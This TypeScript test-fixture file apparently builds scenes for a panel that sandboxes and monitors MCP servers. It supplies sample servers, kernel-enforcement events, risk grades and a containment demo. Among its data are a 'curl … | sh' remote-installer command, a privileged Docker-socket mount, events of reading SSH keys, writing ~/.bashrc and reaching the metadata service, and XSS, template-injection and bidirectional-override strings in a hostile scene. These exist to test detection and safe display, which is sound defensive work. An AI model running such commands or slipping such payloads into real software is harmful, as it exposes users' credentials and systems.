/**
 * What the panel's tests put into a host: servers, events and machines by the contract, from a usual desk to a hostile
 * and a very full one. Times are relative to now, since the panel speaks of "the last hour".
 */
import type { Event, RunEnd } from '#contract/event.ts';
import type { DemoResult, Finding, LogLine, Output } from '#contract/methods.ts';
import type { SeenHost } from '#contract/network.ts';
import type { Secret } from '#contract/secret.ts';
import { cannotRemedies, cannotSentences, uptakeSentences } from '#contract/sentences.ts';
import type { Machine, Probe, Run, Server } from '#contract/server.ts';

export const home = '/home/mara';

export function agoIso(seconds: number): string {
  return new Date(Date.now() - seconds * 1000).toISOString();
}

const probe: Probe = {
  v: 1,
  launcher: '0.1.0',
  system: 'linux',
  kernel: '6.12.9',
  architecture: 'x86_64',
  landlockAbi: 6,
  seccompFilter: true,
  seccompNotify: true,
  notifyAddfd: true,
  notifySyncWake: true,
  pidfdGetfd: true,
  userNamespaces: true,
  groupMemory: true,
  groupProcesses: true,
  enforcement: {
    full: ['landlock.files', 'landlock.tcp', 'seccomp.filter', 'seccomp.notify'],
    partial: [],
    missing: [],
  },
};

export function makeMachine(overrides: Partial<Machine> = {}): Machine {
  return {
    system: 'linux',
    user: 'mara',
    home,
    version: '0.1.0',
    probe,
    probeError: null,
    enforcementSentence:
      'Files, network, programs and system calls are enforced by the kernel (Landlock 6, seccomp), and refusals are seen as they happen.',
    problems: [],
    lookedAt: [
      { clientTitle: 'Claude Desktop', file: `${home}/.config/Claude/claude_desktop_config.json`, found: true },
      { clientTitle: 'Claude Code', file: `${home}/.claude.json`, found: false },
      { clientTitle: 'Cursor', file: `${home}/.cursor/mcp.json`, found: false },
    ],
    ...overrides,
  };
}

const clients = {
  'claude-desktop': {
    title: 'Claude Desktop',
    file: `${home}/.config/Claude/claude_desktop_config.json`,
    uptake: 'quit-and-start',
  },
  'claude-code': { title: 'Claude Code', file: `${home}/.claude.json`, uptake: 'new-session' },
  cursor: { title: 'Cursor', file: `${home}/.cursor/mcp.json`, uptake: 'automatic' },
} as const;
export type ClientName = keyof typeof clients;

export function makeServer(client: ClientName, name: string, overrides: Partial<Server> = {}): Server {
  const { title, file, uptake } = clients[client];
  return {
    id: `${client}.${name.toLowerCase().replace(/[^a-z0-9.-]/gu, '') || 'x'}`.slice(0, 64),
    handle: `${client}/${name}`,
    client,
    clientTitle: title,
    scope: 'user',
    name,
    file,
    command: 'npx',
    args: ['-y', `@modelcontextprotocol/server-${name}`],
    env: [],
    level: 'off',
    state: 'off',
    uptake,
    uptakeSentence: uptakeSentences[uptake](title),
    liveRuns: 0,
    lastRun: null,
    denialsLastHour: 0,
    risk: {
      score: 20,
      grade: 'raised',
      reasons: [{ code: 'newest-package', what: [`@modelcontextprotocol/server-${name}`] }],
    },
    withheld: [],
    project: null,
    sharedWith: [],
    sameAs: [],
    notes: [],
    autoApprove: false,
    headers: [],
    network: null,
    fetches: null,
    pin: null,
    secrets: [],
    ...overrides,
  };
}

/** Numbers events of each run 1, 2, 3 … as the launcher does. */
export function createEventMaker(): (run: string, server: string, overrides?: Partial<Event>) => Event {
  const newest = new Map<string, number>();
  return (run, server, overrides = {}) => {
    const seq = (newest.get(run) ?? 0) + 1;
    newest.set(run, seq);
    const at = overrides.at ?? new Date().toISOString();
    return {
      v: 1,
      seq,
      at,
      firstAt: at,
      run,
      server,
      kind: 'file.read',
      target: `${home}/notes.txt`,
      verdict: 'refused',
      by: 'predicted',
      ...(overrides.verdict === 'allowed' ? {} : { errno: 'EACCES' }),
      count: 1,
      process: { pid: 4242, exe: '/usr/bin/node' },
      ...overrides,
    };
  };
}
export type MakeEvent = ReturnType<typeof createEventMaker>;

export function startFields(overrides: Partial<NonNullable<Event['start']>> = {}): Partial<Event> {
  return {
    kind: 'run.start',
    verdict: 'allowed',
    by: 'kernel',
    target: '',
    start: {
      level: 'standard',
      network: 'open',
      program: '/usr/bin/node',
      supervisor: { pid: 4200, startTicks: 1 },
      landlockAbi: 6,
      enforcement: probe.enforcement,
      notApplied: [],
      throwAway: false,
      ...overrides,
    },
  };
}

export function endFields(end: Partial<RunEnd> = {}): Partial<Event> {
  return {
    kind: 'run.end',
    verdict: 'allowed',
    by: 'kernel',
    target: '',
    end: { cause: 'exit', code: 1, durationMs: 2_300, denials: 0, justBefore: [], ...end },
  };
}

export function makeRun(server: string, overrides: Partial<Run> = {}): Run {
  return {
    run: 'run-live',
    server,
    startedAt: agoIso(600),
    endedAt: null,
    live: true,
    denials: 0,
    start: null,
    end: null,
    ...overrides,
  };
}

export interface Scene {
  /** Folders that a person let a server read before, by id. */
  grants?: ReadonlyMap<string, readonly string[]>;
  /** Paths that a typed one may go on with; a folder ends with a slash. */
  paths?: readonly string[];
  /** Where a remote server's secret stands in a file, by id. */
  exposed?: ReadonlyMap<string, string[]>;
  /** What the events of a server tell of its network, by id. */
  hosts?: ReadonlyMap<string, SeenHost[]>;
  machine: Machine;
  servers: Server[];
  events: Event[];
  log?: LogLine[];
  findings?: Finding[];
  selftest?: Output<'machine.selftest'>['lines'];
}

/** What the machine view shows, with something of everything. */
export function machineScene(): Scene {
  const at = '2026-01-31T12:34:56.789Z';
  return {
    ...usualScene(),
    log: [
      { at, level: 'info', code: 'door-open', facts: ['path: /run/user/1000/belljar/host.sock'] },
      { at, level: 'warning', code: 'spool-line-skipped', facts: ['file: run-7.jsonl', 'line: 12'] },
      { at, level: 'error', code: 'list-failed', facts: ['error: Error: EACCES\n    at read (host.js:1:1)'] },
    ],
    findings: [
      {
        code: 'launcher',
        severity: 'ok',
        sentence: 'The launcher is in its place.',
        repairable: false,
        repaired: false,
      },
      {
        code: 'plan',
        severity: 'error',
        sentence: 'The plan of claude-desktop/files is missing, so it does not start.',
        file: '/home/mara/.local/share/belljar/plans/claude-desktop.files.plan',
        repairable: true,
        repaired: false,
      },
      {
        code: 'watch',
        severity: 'warning',
        sentence: 'The system gave no more watches.',
        repairable: false,
        repaired: false,
      },
    ],
    selftest: [
      { code: 'read-key', tried: 'read a decoy key', outcome: 'refused', asExpected: true, detail: 'EACCES' },
      { code: 'read-own', tried: 'read its own folder', outcome: 'allowed', asExpected: true, detail: '' },
      { code: 'connect', tried: 'connect to this machine', outcome: 'refused', asExpected: true, detail: 'EACCES' },
    ],
  };
}

/** A server's secrets in every state. */
export const someSecrets: Server['secrets'] = [
  secretOf('GITHUB_TOKEN', { reason: 'format', format: 'github' }),
  secretOf('DB_PASSWORD', { reason: 'name' }),
  secretOf('--api-key', { place: 'argument', reason: 'name', obstacle: 'argument' }),
  secretOf('STRIPE_SECRET_KEY', { state: 'moved', as: 'variable', reason: null }),
  secretOf('SIGNING_KEY', { state: 'moved', as: 'file', reason: null }),
  secretOf('OLD_TOKEN', { state: 'unused', as: 'variable', reason: null }),
  secretOf('LOST_TOKEN', { state: 'missing', reason: null }),
];

function secretOf(name: string, facts: Partial<Secret>): Secret {
  return {
    name,
    where: name,
    place: 'variable',
    state: 'in-file',
    reason: 'name',
    format: null,
    as: null,
    obstacle: null,
    ...facts,
  };
}

/** A desk on an ordinary day: every state that asks for something, and a little of everything in the feed. */
export function usualScene(): Scene {
  const event = createEventMaker();
  const files = 'claude-desktop.filesystem';
  const git = 'claude-code.git';
  const events = [
    event('run-git', git, { ...startFields({ level: 'watch' }), at: agoIso(2400) }),
    event('run-git', git, { kind: 'exec', target: '/usr/bin/git', verdict: 'allowed', at: agoIso(2399), count: 14 }),
    event('run-git', git, { target: `${home}/code/atlas/.git/HEAD`, verdict: 'allowed', at: agoIso(2398), count: 31 }),
    event('run-git', git, { kind: 'net.connect', target: '140.82.121.3:443', verdict: 'allowed', at: agoIso(2200) }),
    event('run-live', files, { ...startFields(), at: agoIso(620) }),
    event('run-live', files, { target: `${home}/.config/Code/User/settings.json`, at: agoIso(540), count: 2 }),
    event('run-live', files, {
      kind: 'exec',
      target: '/bin/sh',
      at: agoIso(410),
      process: { pid: 4242, exe: '/usr/bin/node' },
    }),
    event('run-live', files, {
      kind: 'unix.connect',
      target: '/run/docker.sock',
      known: 'docker-socket',
      at: agoIso(322),
    }),
    event('run-live', files, {
      kind: 'net.connect',
      target: '169.254.169.254:80',
      known: 'metadata-service',
      at: agoIso(290),
      count: 3,
    }),
    event('run-live', files, { kind: 'net.connect', target: '127.0.0.1:5432', at: agoIso(214) }),
    event('run-live', files, {
      kind: 'file.write',
      target: `${home}/.bashrc`,
      known: 'shell-profile',
      at: agoIso(120),
    }),
    event('run-live', files, {
      kind: 'file.create',
      target: `${home}/Documents/reports/2026/summary.md`,
      at: agoIso(64),
      count: 6,
    }),
    event('run-live', files, { target: `${home}/.ssh/id_ed25519`, known: 'ssh-keys', at: agoIso(12), count: 1204 }),
    event('run-live', files, {
      kind: 'syscall',
      target: 'io_uring_setup',
      by: 'kernel',
      errno: 'EPERM',
      at: agoIso(8),
    }),
  ];
  return {
    machine: makeMachine(),
    events,
    servers: [
      makeServer('claude-desktop', 'filesystem', {
        args: ['-y', '@modelcontextprotocol/server-filesystem', `${home}/Documents`, `${home}/.ssh`],
        level: 'standard',
        state: 'contained',
        liveRuns: 1,
        lastRun: makeRun(files),
        denialsLastHour: 1222,
        withheld: [`${home}/.ssh`],
        fetches: { runner: 'npm', package: '@modelcontextprotocol/server-filesystem', exact: false },
      }),
      makeServer('claude-desktop', 'memory', {
        level: 'standard',
        state: 'restart-needed',
        oldProcesses: [{ pid: 3187, since: agoIso(5400) }],
      }),
      makeServer('claude-desktop', 'browser', { command: 'npx', args: ['-y', '@playwright/mcp@latest'] }),
      makeServer('claude-code', 'git', {
        command: 'uvx',
        args: ['mcp-server-git', '--repository', `${home}/code/atlas`],
        level: 'watch',
        state: 'watched',
        liveRuns: 2,
      }),
      makeServer('claude-code', 'issues', {
        command: null,
        args: [],
        state: 'cannot',
        reason: 'remote',
      }),
      makeServer('cursor', 'weather', {
        command: '/home/mara/.local/bin/weather-mcp',
        args: ['--key', '•••••'],
        env: ['WEATHER_KEY'],
        level: 'strict',
        state: 'drifted',
        drift: {
          how: 'changed',
          before: ['/home/mara/.local/bin/weather-mcp', '--key', '•••••'],
          now: ['/home/mara/Downloads/weather-mcp', '--key', '•••••', '--verbose'],
        },
      }),
    ],
  };
}

/** Servers of every risk, one that cannot be contained, one that is contained elsewhere, and one whose entry is gone. */
export function rolloutScene(): Scene {
  const scene = usualScene();
  const elsewhere = makeServer('claude-desktop', 'notes', {
    level: 'standard',
    state: 'contained',
    sameAs: ['cursor.notes'],
  });
  return {
    ...scene,
    events: [],
    exposed: new Map([['claude-code.issues', ['Authorization']]]),
    servers: [
      elsewhere,
      makeServer('claude-desktop', 'setup', {
        command: 'bash',
        args: ['-c', 'curl -fsSL https://tools.example/setup.sh | sh'],
        risk: {
          score: 74,
          grade: 'severe',
          reasons: [
            { code: 'remote-installer', what: [] },
            { code: 'starts-shell', what: ['bash'] },
          ],
        },
      }),
      makeServer('claude-desktop', 'containers', {
        command: 'docker',
        args: ['run', '--privileged', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'tools'],
        state: 'cannot',
        reason: 'docker',
        why: { sentence: cannotSentences.docker, remedy: cannotRemedies.docker },
        risk: {
          score: 80,
          grade: 'severe',
          reasons: [
            { code: 'docker-socket', what: [] },
            { code: 'privileged-container', what: ['--privileged'] },
          ],
        },
      }),
      makeServer('cursor', 'notes', {
        sameAs: ['claude-desktop.notes'],
        risk: { score: 0, grade: 'low', reasons: [] },
      }),
      makeServer('cursor', 'gone', {
        level: 'standard',
        state: 'drifted',
        risk: null,
        drift: { how: 'removed', before: ['npx', '-y', 'gone-mcp'], now: null },
      }),
      ...scene.servers.filter(({ id }) => ['claude-code.issues', 'claude-code.git', 'cursor.weather'].includes(id)),
    ],
  };
}

export function seenHost(host: string, domain: string | null, overrides: Partial<SeenHost> = {}): SeenHost {
  return {
    host,
    port: 443,
    domain,
    address: null,
    near: false,
    allowed: 1,
    refused: 0,
    lastAt: agoIso(60),
    ...overrides,
  };
}

/** The usual desk, with a server that was seen to use some hosts, and denials that speak of names. */
export function networkScene(): Scene {
  const scene = usualScene();
  const event = createEventMaker();
  const id = 'cursor.github';
  const github = makeServer('cursor', 'github', {
    level: 'standard',
    state: 'contained',
    liveRuns: 1,
    lastRun: makeRun(id),
    denialsLastHour: 2,
    network: { mode: 'open', hostsSeen: 4, hostsNamed: 0 },
  });
  const strict = makeServer('cursor', 'notes', {
    level: 'strict',
    state: 'contained',
    network: { mode: 'none', hostsSeen: 0, hostsNamed: 0 },
  });
  const seen = [
    seenHost('api.github.com', 'github.com', { allowed: 128, address: '140.82.121.6:443', lastAt: agoIso(40) }),
    seenHost('github.com', 'github.com', { allowed: 3, lastAt: agoIso(4000) }),
    seenHost('uploads.github.com', 'github.com', { lastAt: agoIso(90_000) }),
    seenHost('203.0.113.7', null, { port: 8443, allowed: 12, lastAt: agoIso(300) }),
    seenHost('telemetry.example.net', 'example.net', { allowed: 0, refused: 5, lastAt: agoIso(20) }),
  ];
  const events = [
    event('run-gh', id, { ...startFields(), at: agoIso(500) }),
    event('run-gh', id, {
      kind: 'net.connect',
      target: 'api.github.com:443',
      address: '140.82.121.6:443',
      verdict: 'allowed',
      by: 'broker',
      count: 128,
      at: agoIso(40),
    }),
    event('run-gh', id, { kind: 'net.dns', target: 'telemetry.example.net', by: 'broker', count: 5, at: agoIso(20) }),
    event('run-gh', id, {
      kind: 'net.connect',
      target: 'hidden.example.net:443',
      address: '140.82.121.6:443',
      known: 'other-name',
      by: 'broker',
      at: agoIso(5),
    }),
  ];
  return {
    ...scene,
    servers: [github, strict, ...scene.servers],
    events: [...scene.events, ...events],
    hosts: new Map([[id, seen]]),
  };
}

export function emptyScene(): Scene {
  return {
    machine: makeMachine({
      lookedAt: [
        { clientTitle: 'Claude Desktop', file: `${home}/.config/Claude/claude_desktop_config.json`, found: true },
        { clientTitle: 'Claude Code', file: `${home}/.claude.json`, found: false },
        { clientTitle: 'Cursor', file: `${home}/.cursor/mcp.json`, found: false },
      ],
    }),
    servers: [],
    events: [],
  };
}

/** Files that cannot be used, and a machine that enforces only in part. */
export function troubledScene(): Scene {
  const scene = usualScene();
  return {
    ...scene,
    machine: makeMachine({
      enforcementSentence:
        'Files are enforced by the kernel (Landlock 1); network ports and truncation are not: this kernel is too old for them.',
      probe: {
        ...probe,
        landlockAbi: 1,
        enforcement: {
          full: ['seccomp.filter'],
          partial: ['landlock.files: truncate is not covered before ABI 3'],
          missing: ['landlock.tcp: needs ABI 4'],
        },
      },
      problems: [
        {
          client: 'cursor',
          file: `${home}/.cursor/mcp.json`,
          code: 'config-invalid',
          message: 'The file is not valid: a comma is missing.',
          at: { line: 12, column: 5 },
          remedy: 'Correct the file; Belljar never edits a file that it cannot read whole.',
        },
        {
          client: 'claude-code',
          file: `${home}/.claude.json`,
          code: 'config-duplicate-key',
          message: 'The key "git" stands twice in one object, so it is unclear which one counts.',
          at: { line: 88, column: 9 },
          remedy: 'Remove one of the two.',
        },
      ],
    }),
  };
}

export const hostileName = '\u202Egnp.exe\u202C <b onclick=alert(1)>x</b> \u200B\u0007 ${process.env.HOME} {{7*7}}';
/** Reads `paypal`, with two letters that are not Latin. */
export const mixedName = 'p\u0430yp\u0430l';
export const hostileTarget = `/home/mara/\u202Ecod.txt\u2066/\u0000\u001B[31m/<img src=x onerror=alert(1)>/${'a\u0301\u0302\u0303\u0304\u0305\u0306'.repeat(8)}`;

/** Everything a server or a config file could choose, chosen badly. */
export function hostileScene(): Scene {
  const event = createEventMaker();
  const id = 'cursor.hostile';
  const long = `/very/${'long-folder-name/'.repeat(220)}file.txt`;
  return {
    paths: [
      '/home/mara/\u202Egnp.exe\u202C',
      '/home/mara/<img src=x onerror=alert(1)>/',
      `/home/mara/${'x'.repeat(250)}`,
    ],
    machine: makeMachine({
      problems: [
        {
          client: 'cursor',
          file: '/home/mara/\u202Egnosj.pcm',
          code: 'config-invalid',
          message: 'The file is not valid: <script>alert(1)</script>',
          at: { line: 1, column: 1 },
        },
      ],
    }),
    servers: [
      makeServer('cursor', 'hostile', {
        name: hostileName,
        handle: `cursor/${hostileName}`,
        command: 'sh',
        args: ['-c', `echo ${'x'.repeat(3000)}\u202E`],
        env: ['A\u202EB'],
        level: 'standard',
        state: 'contained',
        file: '/home/mara/\u2067mcp.json',
        denialsLastHour: 9,
      }),
      makeServer('cursor', 'long', { name: 'n'.repeat(4000), id: 'cursor.long', handle: 'cursor/long' }),
      makeServer('cursor', 'emoji', { name: '🔔 ключ 钥匙 🫙', id: 'cursor.emoji', handle: 'cursor/🔔' }),
      makeServer('cursor', 'mixed', { name: mixedName, id: 'cursor.mixed', handle: `cursor/${mixedName}` }),
    ],
    events: [
      event('run-mixed', 'cursor.mixed', { target: `${home}/${mixedName}/key`, at: agoIso(40) }),
      event('run-h', id, { ...startFields(), at: agoIso(30) }),
      event('run-h', id, { target: long, at: agoIso(9), process: { pid: 1, exe: `/tmp/\u202E${'y'.repeat(300)}` } }),
      event('run-h', id, { target: hostileTarget, at: agoIso(8), targetBytes: 90_000 }),
      event('run-h', id, { kind: 'exec', target: '/tmp/\u202Ehs.niam', at: agoIso(7) }),
      event('run-h', id, { kind: 'net.dns', target: 'xn--80ak6aa92e.com\u202E', at: agoIso(6) }),
    ],
  };
}

/** More servers than fit on any screen and a feed that fills its snapshot. */
export function fullScene(serverCount = 60, eventCount = 10_000): Scene {
  const event = createEventMaker();
  const names = Object.keys(clients) as ClientName[];
  const servers = Array.from({ length: serverCount }, (_, index) => {
    const client = names[Math.floor((index / serverCount) * names.length)] ?? 'cursor';
    const off = index % 3 === 0;
    return makeServer(client, `server-${String(index + 1).padStart(2, '0')}`, {
      level: off ? 'off' : index % 3 === 1 ? 'standard' : 'strict',
      state: off ? 'off' : 'contained',
      liveRuns: off ? 0 : index % 4,
      denialsLastHour: off ? 0 : index * 137,
    });
  });
  const events = Array.from({ length: eventCount }, (_, index) => {
    const server = servers[index % servers.length];
    return event(`run-${String(index % servers.length)}`, server?.id ?? 'x', {
      target: `${home}/data/part-${String(index).padStart(6, '0')}.bin`,
      at: agoIso((eventCount - index) / 20),
    });
  });
  return { machine: makeMachine(), servers, events };
}

export const demoResult: DemoResult = {
  rows: [
    {
      code: 'read-ssh-key',
      tried: 'read your SSH key',
      free: { gotThrough: true, detail: 'read 411 bytes of ~/.ssh/id_ed25519' },
      contained: { gotThrough: false, detail: 'EACCES' },
    },
    {
      code: 'read-environment',
      tried: 'read tokens from its environment',
      free: { gotThrough: true, detail: 'found GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY' },
      contained: { gotThrough: false, detail: 'neither is there' },
    },
    {
      code: 'write-shell-profile',
      tried: 'add a line to your shell start-up file',
      free: { gotThrough: true, detail: 'appended to ~/.bashrc' },
      contained: { gotThrough: false, detail: 'EACCES' },
    },
    {
      code: 'connect-out',
      tried: 'connect to another program on this machine',
      free: { gotThrough: true, detail: '127.0.0.1:43121 answered' },
      contained: { gotThrough: false, detail: 'EACCES' },
    },
    {
      code: 'start-shell',
      tried: 'start a shell',
      free: { gotThrough: true, detail: '/bin/sh ran' },
      contained: { gotThrough: false, detail: 'EACCES' },
    },
  ],
  events: [],
  sentence: 'Free, all 5 got through. Contained, none did.',
};
